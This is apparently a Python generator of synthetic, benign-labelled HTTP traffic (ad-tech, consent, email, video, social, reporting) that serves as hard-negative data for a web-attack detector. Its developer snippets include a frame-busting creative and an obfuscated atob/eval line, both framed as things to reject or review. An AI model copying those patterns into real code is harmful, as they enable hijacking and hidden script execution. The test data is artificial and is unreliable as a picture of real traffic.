        p = {"click_id": rhex(r, 24), "event": r.choice(["install", "purchase", "af_complete_registration", "level_achieved", "subscribe"]),
             "revenue": f"{r.uniform(0.99, 249):.2f}", "currency": r.choice(["USD", "EUR", "GBP"]),
             "idfa": ruuid(r).upper(), "idfv": ruuid(r).upper(), "att": r.choice(["0", "3"]),
             "ip": f"{r.randint(23, 200)}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}",
             "ua": r.choice(UAS[2:4]), "app_id": r.choice(["id1481234567", "com.fitly.android"]),
             "campaign": r.choice(CAMPAIGNS), "adset": r.choice(["LAL 1% - Purchasers (180d)", "Broad | 25-44 | F"]),
             "ad": r.choice(["UGC_v3 'unboxing'", "Static #4 - 50% off"]), "sub1": "{sub1}", "sub2": r.choice(["{affiliate_id}", "aff_" + str(r.randint(100, 999))]),
             "event_value": json.dumps({"af_revenue": 19.99, "af_content_id": ["SKU-1234", "SKU-99"], "af_order_id": f"ORD-{r.randint(10**6, 10**7)}"}),
             "install_time": f"2025-11-0{r.randint(1, 9)} 1{r.randint(0, 9)}:{r.randint(10, 59)}:{r.randint(10, 59)}.123",
             "country": r.choice(["US", "DE", "BR", "IN"]), "os_version": "17.6.1", "sdk_version": "v6.15.2"}
        host = r.choice(["postback.affnet.example", "s2s.mmp-track.example", "track.partnerize.example"])
        if r.random() < 0.7:
            out.append(mk("benign", "s2s-postback", i, "GET", "/postback?" + qs(p), server_h(r, host, None)))
        else:
            out.append(mk("benign", "s2s-postback", i, "POST", "/api/v2/conversions", server_h(r, host, "application/x-www-form-urlencoded", [["X-Signature", "sha256=" + rhex(r, 64)]]), qs(p)))
    return out


def g_consent(r, n):
    out = []
    for i in range(1, n + 1):
        k = i % 3
        if k == 0:
            body = json.dumps({"tcString": tcf(r), "gppString": gpp(r), "applicableSections": [2], "cmpId": 10, "cmpVersion": 43, "purposeConsents": {str(p): r.random() < 0.7 for p in range(1, 11)}, "vendorConsents": {str(v): True for v in r.sample(range(1, 1200), 20)}, "addtlConsent": "2~" + ".".join(str(x) for x in sorted(r.sample(range(1, 3000), 30))) + "~dv.", "gpc": False})
            out.append(mk("benign", "cmp-log", i, "POST", "/v2/consent/log?domain=" + r.choice(PUBS), browser_h(r, "consent.cmp-hub.example", "application/json", [["Content-Type", "application/json"], ["Origin", "https://" + r.choice(PUBS)]]), body))
        elif k == 1:
            uri = "/gpp/v1/sync?" + qs({"gpp": gpp(r), "gpp_sid": "2,7", "us_privacy": "1YNN", "addtl_consent": "2~70.89.93.108.122~dv."})
            out.append(mk("benign", "gpp-sync", i, "GET", uri, browser_h(r, "sync.cmp-hub.example", "image/*", [["Cookie", f"euconsent-v2={tcf(r)}; __gpp={gpp(r)}; __gpp_sid=2; OTAdditionalConsentString=1~39.43.46.55.61"]])))
        else:
            uri = "/api/v1/vendor-list.json?" + qs({"lang": r.choice(["de", "fr", "en"]), "v": str(r.randint(100, 300))})
            out.append(mk("benign", "gvl", i, "GET", uri, browser_h(r, "vendor-list.consensu.example", "application/json", [["Cookie", f"euconsent-v2={tcf(r)}"]])))
    return out


EMAIL_HTML = """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /><meta name="viewport" content="width=device-width, initial-scale=1.0" />
<title>{subject}</title><style type="text/css">body{{margin:0;padding:0}} .btn a{{background:#e4002b;color:#ffffff;text-decoration:none;padding:12px 24px;border-radius:4px}} @media only screen and (max-width:600px){{.col{{width:100%!important}}}}</style>
<!--[if mso]><style>table{{border-collapse:collapse}}</style><![endif]--></head>
<body style="background-color:#f4f4f4"><table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table class="col" width="600" style="background:#ffffff"><tr><td style="padding:24px;font-family:Helvetica,Arial,sans-serif">
<p>{greeting}</p><p>{line}</p>
<table class="btn"><tr><td><a href="{cta}" target="_blank">Shop now &rarr;</a></td></tr></table>
{cond}
<p style="font-size:11px;color:#777">You're receiving this because you signed up at {brand}. <a href="{unsub}">Unsubscribe</a> | <a href="{prefs}">Update preferences</a><br/>{brand}, {addr}</p>
<img src="https://open.mailer-pro.example/o/{oid}.gif" width="1" height="1" alt="" style="display:block" />
</td></tr></table></td></tr></table></body></html>"""


def g_email(r, n):
    out = []
    styles = [
        ("handlebars", "Hi {{first_name}},", "{{#if loyalty_tier}}<p>As a {{loyalty_tier}} member you get an extra {{discount}}% off.</p>{{else}}<p>Join our club today!</p>{{/if}}", "{{unsubscribe_url}}", "{{preferences_url}}"),
        ("liquid", "Hi {{ customer.first_name | default: \"there\" }},", "{% if customer.orders_count > 2 %}<p>Thanks for being a regular &mdash; here's {{ discount_code }}.</p>{% endif %}{% for p in recommended limit:3 %}<p>{{ p.title | escape }} &ndash; {{ p.price | money }}</p>{% endfor %}", "{{ unsubscribe_link }}", "{{ manage_preferences }}"),
        ("mailchimp", "Hi *|FNAME|*,", "*|IF:MMERGE5=Gold|*<p>Gold members: free shipping this week.</p>*|END:IF|*", "*|UNSUB|*", "*|UPDATE_PROFILE|*"),
        ("sendgrid", "Hi {{firstName}},", "{{#each items}}<p>{{this.name}} x{{this.qty}}</p>{{/each}}", "<%asm_group_unsubscribe_raw_url%>", "<%asm_preferences_raw_url%>"),
        ("braze", "Hi {{${first_name} | default: 'friend'}},", "{% if ${language} == 'de' %}<p>Neue Angebote f&uuml;r dich!</p>{% else %}<p>New deals for you!</p>{% endif %}", "{{${unsubscribe_url}}}", "{{${set_user_to_subscribed_url}}}"),
        ("sfmc", "Hi %%FirstName%%,", "%%[ IF @tier == \"Gold\" THEN ]%%<p>Gold perks inside.</p>%%[ ENDIF ]%%", "%%unsub_center_url%%", "%%profile_center_url%%"),
    ]
    for i in range(1, n + 1):
        k = i % 5
        st = styles[r.randrange(len(styles))]
        brand = r.choice(["Kitchenly", "Brand Shop GmbH", "Fitly Inc.", "Rock'n'Roll Tours"])
        if k in (0, 1, 2):
            html = EMAIL_HTML.format(subject=r.choice(["Your weekly picks", "Don't miss out: 30% off ends tonight!", "Neu: Herbstkollektion"]),
                                     greeting=st[1], line=r.choice(["We've picked a few things we think you'll love.", "Last chance & free returns — no code needed.", "Your cart's waiting (and so are we) :)"]),
                                     cta="https://www.brand-shop.example/sale?utm_source=newsletter&utm_medium=email&utm_campaign=" + q(r.choice(CAMPAIGNS)),
                                     cond=st[2], brand=brand, addr="Friedrichstraße 12, 10117 Berlin", unsub=st[3], prefs=st[4], oid=rhex(r, 20))
            body = json.dumps({"name": f"{r.choice(CAMPAIGNS)} - newsletter v{r.randint(1, 9)}", "subject": r.choice(["{{first_name}}, your picks are here", "Don't miss out: 30% off ends tonight! 🔥", "*|FNAME|*, we saved you a seat"]),
                               "preheader": "Free shipping on orders over $50 & easy returns", "engine": st[0], "html": html,
                               "text": st[1] + "\n\nShop now: https://www.brand-shop.example/sale\n\nUnsubscribe: " + st[3]})
            path = r.choice(["/v3/templates", "/api/v1/campaigns/%d/content" % r.randint(1000, 9999), "/3.0/templates"])
            out.append(mk("benign", "email-template", i, r.choice(["POST", "PUT"]), path, api_h(r, "api.mailer-pro.example"), body))
        elif k == 3:
            em = f"{r.choice(FIRST).lower()}.{r.choice(LAST).lower().replace(' ', '')}@example.com"
            if r.random() < 0.5:
                uri = "/unsubscribe?" + qs({"e": b64u(em.encode()), "c": str(r.randint(10**5, 10**6)), "l": rhex(r, 16), "sig": rhex(r, 40)})
                out.append(mk("benign", "unsubscribe", i, "GET", uri, browser_h(r, "email.mailer-pro.example", "text/html,*/*;q=0.8")))
            else:  # RFC 8058 one-click
                out.append(mk("benign", "unsubscribe", i, "POST", "/u/" + b64u(bytes(r.getrandbits(8) for _ in range(40))), [["Host", "email.mailer-pro.example"], ["User-Agent", "Mozilla/5.0 (compatible; Google-Unsubscribe)"], ["Content-Type", "application/x-www-form-urlencoded"]], "List-Unsubscribe=One-Click"))
        else:
            contacts = [{"email": f"{r.choice(FIRST).lower()}{r.randint(1, 99)}@example.org", "first_name": r.choice(FIRST), "last_name": r.choice(LAST),
                         "custom_fields": {"city": r.choice(CITIES), "favourite_category": r.choice(["Men's > Shoes > Boots", "Home & Garden", "Kids' Toys (3-5 yrs)"]), "lifetime_value": round(r.uniform(0, 3000), 2)}} for _ in range(r.randint(2, 6))]
            out.append(mk("benign", "contacts-upsert", i, "PUT", "/v3/marketing/contacts", api_h(r, "api.mailer-pro.example"), json.dumps({"list_ids": [ruuid(r)], "contacts": contacts})))
    return out


def g_cdp(r, n):
    out = []
    for i in range(1, n + 1):
        batch = []
        for _ in range(r.randint(1, 5)):
            t = r.choice(["track", "identify", "page", "track", "group"])
            ctx = {"library": {"name": "analytics.js", "version": "next-1.70.0"}, "userAgent": r.choice(UAS), "locale": "en-US",
                   "page": {"path": "/products/cast-iron-pan", "referrer": "https://www.google.com/", "search": "?utm_source=google&utm_medium=cpc&utm_term=" + q("cast iron 12\""), "title": "12\" Cast-Iron Pan – Kitchenly", "url": "https://shop.kitchenly.example/products/cast-iron-pan?variant=4412&utm_source=google"},
                   "campaign": {"name": r.choice(CAMPAIGNS), "source": "google", "medium": "cpc"}, "ip": "0.0.0.0"}
            ev = {"type": t, "messageId": "ajs-next-" + rhex(r, 32), "anonymousId": ruuid(r), "timestamp": f"2025-11-04T1{r.randint(0, 9)}:{r.randint(10, 59)}:{r.randint(10, 59)}.{r.randint(100, 999)}Z", "context": ctx}
            if t == "track":
                ev["event"] = r.choice(["Product Added", "Order Completed", "Checkout Step Viewed", "Video Playback Started", "Coupon Applied"])
                ev["properties"] = {"product_id": f"SKU-{r.randint(1000, 9999)}", "name": r.choice(["Men's Trail Runner 2.0", "Kids' \"Dino\" Hoodie", "Pan & Lid Set (2-pack)"]), "price": 39.99, "quantity": 1, "coupon": r.choice(["FALL25", "WELCOME-10", None]), "category": "Home & Kitchen > Cookware", "url": "https://shop.kitchenly.example/p/1?ref=email&x=1"}
            elif t == "identify":
                ev["userId"] = f"usr_{rhex(r, 12)}"
                ev["traits"] = {"email": f"{r.choice(FIRST).lower()}@example.com", "name": f"{r.choice(FIRST)} {r.choice(LAST)}", "plan": "Pro (annual)", "address": {"city": r.choice(CITIES), "street": "12 O'Connell St. #4B"}, "createdAt": "2024-02-29T08:00:00Z"}
            elif t == "page":
                ev["name"] = "Product Detail"
                ev["properties"] = {"path": "/products/cast-iron-pan", "title": "12\" Cast-Iron Pan – Kitchenly"}
            else:
                ev["groupId"] = "acct_" + rhex(r, 8)
                ev["traits"] = {"name": "Smith & Sons Ltd.", "industry": "Retail / E-commerce", "employees": 120}
            batch.append(ev)
        body = json.dumps({"batch": batch, "sentAt": "2025-11-04T10:12:33.120Z", "writeKey": b64u(bytes(r.getrandbits(8) for _ in range(24)))})
        out.append(mk("benign", "cdp-batch", i, "POST", r.choice(["/v1/batch", "/v1/t", "/v1/i", "/collect/v2/events"]), browser_h(r, r.choice(["api.segment-like.example", "cdp.kitchenly.example"]), "*/*", [["Content-Type", "text/plain"], ["Origin", "https://shop.kitchenly.example"]]), body))
    return out


def g_ab(r, n):
    out = []
    for i in range(1, n + 1):
        body = {"key": f"checkout_cta_{r.choice(['color', 'copy', 'layout'])}_{i}", "status": r.choice(["running", "draft", "paused"]),
                "traffic_allocation": 0.5, "variations": [{"key": "control", "weight": 5000, "variables": {"cta_text": "Buy now"}},
                                                          {"key": "treatment", "weight": 5000, "variables": {"cta_text": "Add to bag – free returns!", "cta_color": "#E4002B", "css": ".cta{font-weight:700;border-radius:999px}"}}],
                "audience_conditions": ["and", {"type": "custom_attribute", "name": "country", "match": "exact", "value": "DE"},
                                        ["or", {"name": "device", "match": "substring", "value": "iPhone"}, {"name": "utm_source", "match": "exists"}],
                                        ["not", {"name": "url", "match": "regex", "value": "^https://shop\\.example\\.com/(cart|checkout)/?.*$"}]],
                "metrics": [{"event": "Order Completed", "aggregator": "sum", "field": "revenue", "winning_direction": "increasing"}],
                "notes": "Hypothesis: a friendlier CTA (\"free returns\") raises CR by >=2% for mobile DE users; QA'd on staging <ticket AB-" + str(r.randint(100, 999)) + ">."}
        out.append(mk("benign", "ab-config", i, r.choice(["POST", "PATCH"]), f"/v2/projects/{r.randint(10**5, 10**6)}/experiments", api_h(r, "api.experiments.example"), json.dumps(body)))
    return out


def g_video(r, n):
    out = []
    cdn = "vod.streamcdn.example"
    for i in range(1, n + 1):
        k = i % 6
        vid = rhex(r, 24)
        tok = {"hdnts": f"exp={1730000000 + i}~acl=/vod/{vid}/*~hmac={rhex(r, 64)}"}
        if k == 0:
            out.append(mk("benign", "hls-manifest", i, "GET", f"/vod/{vid}/master.m3u8?" + qs(tok), [["Host", cdn], ["User-Agent", r.choice(UAS[6:9])], ["Accept", "*/*"], ["X-Playback-Session-Id", ruuid(r).upper()]]))
        elif k == 1:
            cmcd = f'bl={r.randint(1000, 30000)},br={r.choice([800, 1600, 3200, 6500])},cid="{vid}",d=4004,dl={r.randint(1000, 30000)},mtp={r.randint(5000, 90000)},nor="seg_{i + 1:05d}.m4s",ot=v,sf=h,sid="{ruuid(r)}",st=v,tb=6500'
            out.append(mk("benign", "segment-cmcd", i, "GET", f"/vod/{vid}/1080p/seg_{i:05d}.m4s?CMCD=" + q(cmcd), [["Host", cdn], ["User-Agent", r.choice(UAS)], ["Accept", "*/*"], ["Origin", "https://watch.example-tv.com"], ["Range", f"bytes={r.randint(0, 10**6)}-"]]))
        elif k == 2:
            out.append(mk("benign", "dash-manifest", i, "GET", f"/live/{r.choice(['sport1', 'news24', 'kids'])}/manifest.mpd?" + qs({"start": "2025-11-04T10:00:00Z", "tsbd": "7200", "aws.manifestfilter": "video_height:1-1080;audio_language:eng,deu"}), [["Host", "live.streamcdn.example"], ["User-Agent", r.choice(UAS)], ["Accept", "application/dash+xml,*/*"]]))
        elif k == 3:
            chal = base64.b64encode(bytes(r.getrandbits(8) for _ in range(r.randint(600, 1400)))).decode()
            if r.random() < 0.5:
                body = json.dumps({"drm_info": chal, "content_id": vid, "kid": rhex(r, 32), "session": {"token": b64u(bytes(r.getrandbits(8) for _ in range(60)))}})
                out.append(mk("benign", "drm-widevine", i, "POST", "/widevine/license?" + qs({"contentId": vid, "provider": "streamco"}), [["Host", "drm.license-svc.example"], ["User-Agent", r.choice(UAS)], ["Content-Type", "application/json"], ["Origin", "https://watch.example-tv.com"]], body))
            else:
                out.append(mk("benign", "drm-fairplay", i, "POST", "/fps/license", [["Host", "drm.license-svc.example"], ["User-Agent", UAS[7]], ["Content-Type", "application/x-www-form-urlencoded"]], "spc=" + q(chal) + "&assetId=" + vid))
        elif k == 4:
            beacon = {"e": r.choice(["playing", "rebufferstart", "rebufferend", "error", "viewend", "adbreakstart", "adplaying"]), "ts": 1730000000000 + i * 1000,
                      "pl": {"pn": "shaka-player", "pv": "4.11.7", "ps": f"{r.randint(320, 1920)}x{r.randint(180, 1080)}", "pa": "false"},
                      "vi": {"vid": vid, "vt": r.choice(["S02E05 – \"The Heist\"", "Top 10: Goals of the week", "Kochen mit Anna: Käsespätzle"]), "vs": "https://vod.streamcdn.example/vod/" + vid + "/master.m3u8?hdnts=exp%3D1~acl%3D%2F*"},
                      "ad": {"ad_tag_url": "https://pubads.g.doubleclick.example/gampad/ads?iu=/1234/ctv/preroll&sz=640x480&gdfp_req=1&output=vast&unviewed_position_start=1&correlator=[timestamp]&cust_params=" + q("genre=comedy&season=2"), "ad_id": str(r.randint(10**6, 10**7))},
                      "err": {"code": r.choice([None, 3016, 1001]), "msg": r.choice([None, "MEDIA_ERR_DECODE: PIPELINE_ERROR_DECODE: video decode error", "HTTP 403 on segment"])}}
            out.append(mk("benign", "player-telemetry", i, "POST", "/v1/beacon?k=" + rhex(r, 16), browser_h(r, "qos.player-analytics.example", "*/*", [["Content-Type", "text/plain;charset=UTF-8"]]), json.dumps(beacon)))
        else:
            out.append(mk("benign", "vod-thumb", i, "GET", f"/vod/{vid}/thumbs/sprite_{r.randint(1, 20)}.jpg?w=320&h=180&fit=crop&q=75", [["Host", cdn], ["User-Agent", r.choice(UAS)], ["Accept", "image/webp,*/*"], ["Referer", "https://watch.example-tv.com/series/the-heist/s2/e5"]]))
    return out


RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:podcast="https://podcastindex.org/namespace/1.0" xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
  <title>{title}</title>
  <link>https://{slug}.example.fm</link>
  <atom:link href="https://feeds.podhost.example/{slug}/rss.xml" rel="self" type="application/rss+xml"/>
  <language>en-us</language>
  <itunes:author>{author}</itunes:author>
  <itunes:category text="Business"><itunes:category text="Marketing"/></itunes:category>
  <itunes:explicit>false</itunes:explicit>
  <itunes:image href="https://cdn.podhost.example/{slug}/cover-3000.jpg"/>
  <description><![CDATA[<p>Weekly chats about ad tech, privacy &amp; measurement. Hosted by {author}.</p>]]></description>
  <item>
    <title>Ep. {ep}: {eptitle}</title>
    <guid isPermaLink="false">{guid}</guid>
    <pubDate>Tue, 04 Nov 2025 06:00:00 +0000</pubDate>
    <enclosure url="https://dts.podtrac.example/redirect.mp3/cdn.podhost.example/{slug}/ep{ep}.mp3?utm_source=rss&amp;aid={guid}" length="{length}" type="audio/mpeg"/>
    <itunes:duration>00:{mins}:12</itunes:duration>
    <content:encoded><![CDATA[<p>In this episode we talk about {topic}.</p><ul><li><a href="https://example.org/show-notes/{ep}?ref=pod">Show notes</a></li><li>Guest: <strong>{guest}</strong></li></ul><p>Sponsored by <a href="https://brand-shop.example/?utm_source=podcast&amp;utm_medium=audio&amp;utm_campaign=ep{ep}">Brand Shop</a> &mdash; use code POD20.</p>]]></content:encoded>
    <podcast:transcript url="https://cdn.podhost.example/{slug}/ep{ep}.vtt" type="text/vtt"/>
    <podcast:chapters url="https://cdn.podhost.example/{slug}/ep{ep}.json" type="application/json+chapters"/>
  </item>
</channel>
</rss>"""


def g_podcast(r, n):
    out = []
    for i in range(1, n + 1):
        slug = r.choice(["adops-after-dark", "the-cookieless-show", "martech-minute", "wir-reden-werbung"])
        if i % 2:
            body = json.dumps({"url": f"https://feeds.podhost.example/{slug}/rss.xml", "email": "host@" + slug + ".example.fm", "categories": ["Business/Marketing", "Technology"], "explicit": False})
            out.append(mk("benign", "podcast-submit", i, "POST", "/api/1.0/add/byfeedurl", api_h(r, "api.podindex.example"), body))
        else:
            body = RSS.format(title=r.choice(["AdOps After Dark", "The Cookieless Show", "Wir reden Werbung"]), slug=slug, author=f"{r.choice(FIRST)} {r.choice(LAST)}".replace("&", "&amp;"), ep=r.randint(10, 300),
                              eptitle=r.choice(["What's a \"clean room\", really?", "Privacy Sandbox &amp; the end of 3P cookies", "SPO, MFA sites &amp; you"]),
                              guid=ruuid(r), length=r.randint(10**7, 10**8), mins=r.randint(20, 59), topic=r.choice(["supply-path optimisation", "CTV measurement", "GPP vs. TCF"]), guest=f"{r.choice(FIRST)} {r.choice(LAST)}")
            out.append(mk("benign", "podcast-feed-push", i, "PUT", f"/v1/shows/{slug}/feed", api_h(r, "hosting.podhost.example", "application/rss+xml; charset=utf-8"), body))
    return out


def g_social(r, n):
    out = []
    texts = ["Don't miss our 50% off sale -- ends tonight! 🔥 #BlackFriday #deals https://brand.example/bf?utm_source=x&utm_medium=social",
             "New drop 👟 Men's Trail Runner 2.0 is here. Tap the link in bio → @brandshop",
             "Q: What's your go-to pan? A) cast iron B) non-stick C) \"whatever's clean\" 😅 Comment below!",
             "We're hiring! Senior Ad Ops Engineer (Prebid, GAM, SQL). Apply: https://jobs.example.com/ad-ops?src=li",
             "Rock 'n' Roll Tour 2025 — Berlin & Hamburg dates added!!! Tickets on sale Fri 10:00 CET. <3",
             "Kochen mit Anna: Käsespätzle in 20 Min. Rezept 👉 https://kitchenly.example/r/kaesespaetzle",
             "1/ Thread: how we cut CPA by 37% with server-side tagging (and what didn't work)...",
             "Shoutout to @agency_x & @studio.y for the amazing campaign 🙌 #ad #sponsored",
             "Poll: Which colour should v2 be? Red / Blue / Both?! Vote below ⬇️",
             "Last call for our webinar \"Measuring CTV: beyond the last click\" -> register: https://events.example/ctv?ref=tw"]
    for i in range(1, n + 1):
        k = i % 3
        t = r.choice(texts)
        if k == 0:
            body = json.dumps({"text": t, "media": {"media_ids": [str(r.randint(10**17, 10**18))]}, "reply_settings": r.choice(["following", "mentionedUsers", None])})
            out.append(mk("benign", "social-post", i, "POST", "/2/tweets", api_h(r, "api.social-x.example"), body))
        elif k == 1:
            body = json.dumps({"author": "urn:li:organization:" + str(r.randint(10**6, 10**7)), "commentary": t.replace("(", "\\(").replace(")", "\\)"), "visibility": "PUBLIC", "distribution": {"feedDistribution": "MAIN_FEED"}, "lifecycleState": "PUBLISHED", "content": {"article": {"source": "https://blog.example.com/2025/11/ctv-measurement?utm_source=linkedin", "title": "CTV measurement: what's next?"}}})
            out.append(mk("benign", "social-post", i, "POST", "/rest/posts", api_h(r, "api.social-li.example", extra=[["LinkedIn-Version", "202410"], ["X-Restli-Protocol-Version", "2.0.0"]]), body))
        else:
            p = {"message": t, "link": "https://brand.example/sale?utm_source=fb&utm_campaign=" + q(r.choice(CAMPAIGNS)), "published": "false", "scheduled_publish_time": str(1730000000 + i * 3600), "access_token": "EAAB" + b64u(bytes(r.getrandbits(8) for _ in range(80)))}
            out.append(mk("benign", "social-post", i, "POST", f"/v21.0/{r.randint(10**14, 10**15)}/feed", server_h(r, "graph.social-fb.example", "application/x-www-form-urlencoded"), qs(p)))
    return out


def g_reports(r, n):
    out = []
    for i in range(1, n + 1):
        k = i % 4
        if k == 0:
            p = {"metrics": "impressions,clicks,ctr,spend,ecpm,video_completion_rate", "dimensions": "date,campaign_name,creative_size",
                 "filter": f"campaign_name=='{r.choice(CAMPAIGNS)}';country=in=(US,CA,GB);spend>100", "sort": "-spend", "from": "2025-10-01", "to": "2025-10-31", "tz": "America/New_York", "limit": "500"}
        elif k == 1:
            p = {"q": f"advertiser:\"{r.choice(['Brand Shop', 'Kitchenly', 'Dr. Martens'])}\" AND status:active AND -name:test*", "fields": "id,name,budget,pacing", "order_by": "updated_at desc", "page_token": b64u(bytes(r.getrandbits(8) for _ in range(20)))}
        elif k == 2:
            p = {"$filter": f"startswith(CampaignName,'{r.choice(['Q3', 'BF', 'Holiday'])}') and Impressions gt 1000 and Status eq 'Active'", "$select": "CampaignName,Impressions,Clicks,Spend", "$orderby": "Spend desc", "$top": "100"}
        else:
            p = {"segment": "(age >= 25 AND age <= 44) OR interests CONTAINS 'running'", "lookback_days": "30", "exclude": "purchasers_180d", "name": r.choice(CAMPAIGNS)}
        hs = api_h(r, "reporting.adplatform.example", None)
        if r.random() < 0.6:
            out.append(mk("benign", "report-query", i, "GET", "/api/v3/reports?" + qs(p), hs))
        else:
            hs.append(["Content-Type", "application/json"])
            out.append(mk("benign", "report-query", i, "POST", "/api/v3/reports/async", hs, json.dumps({"query": p, "format": "csv", "notify": "ops+reports@example.com"})))
    return out


def g_campaigns(r, n):
    out = []
    for i in range(1, n + 1):
        body = {"name": r.choice(CAMPAIGNS), "advertiser_id": r.randint(10**5, 10**6), "budget": {"amount_micros": r.randint(10**9, 10**11), "type": "daily"},
                "flight": {"start": "2025-11-20T00:00:00-05:00", "end": "2025-12-02T23:59:59-05:00"},
                "targeting": {"geo": {"include": ["US-NY", "US-CA"], "exclude_zip": ["10001", "94105"]}, "dayparting": "Mon-Fri 07:00-22:00", "keywords": ["men's boots", "\"waterproof\" hiking", "-kids"], "domains_block": ["*.mfa-example.com", "clickbait.example"], "frequency_cap": "3/24h"},
                "creative": {"click_url": landing(r), "impression_trackers": ["https://ad.doubleclick.example/ddm/trackimp/N1234.567/B89;dc_trk_aid=1;ord=[timestamp];gdpr=${GDPR};gdpr_consent=${GDPR_CONSENT_755}?", "https://pixel.verify.example/p?cb={{cachebuster}}&d=%%SITE%%"],
                             "third_party_tag": None, "landing_page_note": "Use the FR/DE LP for EU traffic & the US LP for everyone else."}}
        out.append(mk("benign", "campaign-create", i, "POST", "/v1/advertisers/%d/line-items" % r.randint(10**4, 10**5), api_h(r, "api.adplatform.example"), json.dumps(body)))
    return out


def g_transcode(r, n):
    out = []
    for i in range(1, n + 1):
        fn = r.choice(["Holiday '25 CTV (final v3).mov", "BF_Spot_15s_EN-US_1920x1080.mp4", "Käsespätzle - Teaser #2.mp4", "brand film (director's cut) [4K].mov"])
        body = {"input": {"url": "s3://media-ingest-prod/uploads/2025/11/" + quote(fn), "filename": fn},
                "outputs": [{"preset": "hls_abr_1080p", "container": "hls", "segment_duration": 4, "video": {"codec": "h264", "profile": "high", "bitrate_kbps": r.choice([4500, 6000]), "gop": 48}, "audio": {"codec": "aac", "bitrate_kbps": 128, "loudness": "-23 LUFS"}},
                            {"preset": "thumbnail", "interval_s": 10, "size": "320x180"}],
                "captions": {"url": "https://cdn.example/subs/" + quote(fn.rsplit(".", 1)[0]) + ".srt", "language": "en"},
                "notify_url": "https://hooks.adplatform.example/transcode/done?job=" + ruuid(r), "metadata": {"title": fn.rsplit(".", 1)[0], "campaign": r.choice(CAMPAIGNS)}}
        out.append(mk("benign", "transcode-job", i, "POST", "/v2/jobs", api_h(r, "transcode.mediasvc.example"), json.dumps(body)))
    return out


# ---------------------------------------------------------------- dev-content

def g_dev(r, n):
    out = []
    snippets = [
        ("GPT tag not rendering on AMP page", "<script async src=\"https://securepubads.g.doubleclick.net/tag/js/gpt.js\"></script>\n<script>\n  window.googletag = window.googletag || {cmd: []};\n  googletag.cmd.push(function() {\n    googletag.defineSlot('/1234/news/top', [[728, 90], [970, 250]], 'div-gpt-ad-1').addService(googletag.pubads());\n    googletag.enableServices();\n  });\n</script>"),
        ("Creative breaks out of iframe", "The HTML5 creative does this on load:\n<script>\n  if (window.top !== window.self) { try { window.top.location.href = clickTag; } catch (e) { document.write('<a href=\"' + clickTag + '\">click</a>'); } }\n</script>\nWe need to reject this - it navigates the top frame."),
        ("Prebid bidsBackHandler question", "pbjs.que.push(function() {\n  pbjs.addAdUnits(adUnits);\n  pbjs.requestBids({ bidsBackHandler: function() { pbjs.setTargetingForGPTAsync(); googletag.pubads().refresh(); }, timeout: 1000 });\n});\nwhy does refresh() fire twice?"),
        ("Report query is slow", "Our saved query:\nSELECT campaign_id, SUM(impressions) AS imps, SUM(clicks) AS clk\nFROM fact_delivery WHERE event_date BETWEEN '2025-10-01' AND '2025-10-31'\nGROUP BY campaign_id ORDER BY imps DESC LIMIT 100;\ntakes 40s, used to take 3s."),
        ("Dedup logic for postbacks", "We dedupe with:\nDELETE FROM conversions WHERE id NOT IN (SELECT MIN(id) FROM conversions GROUP BY click_id, event);\nIs that safe to run hourly?"),
        ("Transcode docs: ffmpeg equivalent", "Locally I reproduce the ladder with:\nffmpeg -i input.mov -vf \"scale=-2:1080\" -c:v libx264 -preset slow -crf 20 -c:a aac -b:a 128k -hls_time 4 -hls_playlist_type vod out/1080p.m3u8 && ls -la out/ | grep m3u8"),
        ("Click macro not expanding", "Creative has <a href=\"%%CLICK_URL_UNESC%%%%DEST_URL%%\" onclick=\"window.open(this.href); return false;\">, the click lands on a literal %%DEST_URL%%. GAM docs say it should expand."),
        ("VAST wrapper chain too deep", "Wrapper -> Wrapper -> InLine, the 3rd hop is\n<VASTAdTagURI><![CDATA[https://ads.example/vast?cb=[CACHEBUSTING]]]></VASTAdTagURI>\nand IMA gives error 302 (wrapper limit). Can we raise it?"),
        ("Liquid template help", "How do I loop in the template? I tried {% for item in cart.items %}{{ item.title | upcase }}{% endfor %} and {{ 'now' | date: '%Y' }} but the preview shows nothing."),
        ("Pixel fires twice", "Our tag manager has:\n<img src=\"https://px.example/p?ev=purchase&v={{value}}\" onerror=\"this.remove()\" style=\"display:none\">\n<script>fbq('track', 'Purchase', {value: 19.99, currency: 'EUR'});</script>"),
        ("Segment builder export", "The generated SQL for the audience is:\nSELECT user_id FROM events WHERE event = 'Order Completed' AND ts > now() - interval '30 days' UNION SELECT user_id FROM crm_imports WHERE tier = 'Gold'"),
        ("Safeframe expand", "$sf.ext.expand({t:0, l:0, r:300, b:0, push:true}); // creative calls this, nothing happens; console: 'Error: Not in safeframe'"),
        ("MongoDB audience query", "Engineering asked what filter we use: db.users.find({ country: 'DE', ltv: { $gt: 100 }, last_seen: { $gte: ISODate('2025-10-01') } }). Can the UI support $in for lists?"),
        ("Creative uses eval", "Vendor creative contains: var s = atob('ZG9jdW1lbnQud3JpdGUoIjxpbWcgc3JjPS4uLj4iKQ=='); eval(s); -- flagged by our scanner, is this acceptable?"),
        ("Handlebars partial", "In the newsletter I have {{> footer unsub=unsubscribe_url}} and {{#each products}}<td>{{{this.html}}}</td>{{/each}} - is triple-stash safe here?"),
        ("Log line from bidder", "Got this in the bidder log:\n2025-11-04T10:12:33Z ERROR java.lang.NullPointerException at com.dsp.bid.Pricer.price(Pricer.java:88) for request id 7f3c... device.ua=Mozilla/5.0 ..."),
        ("HLS ad insertion", "#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-TARGETDURATION:4\n#EXT-X-DISCONTINUITY\n#EXT-X-CUE-OUT:30\n#EXTINF:4.0,\nhttps://ads.cdn.example/seg1.ts\n#EXT-X-CUE-IN\nthe player stalls at CUE-IN"),
        ("Curl repro for win notice", "curl -v 'https://win.dsp-one.example/win?price=${AUCTION_PRICE}&aid=123' -H 'User-Agent: test' | head -20  -> returns 400"),
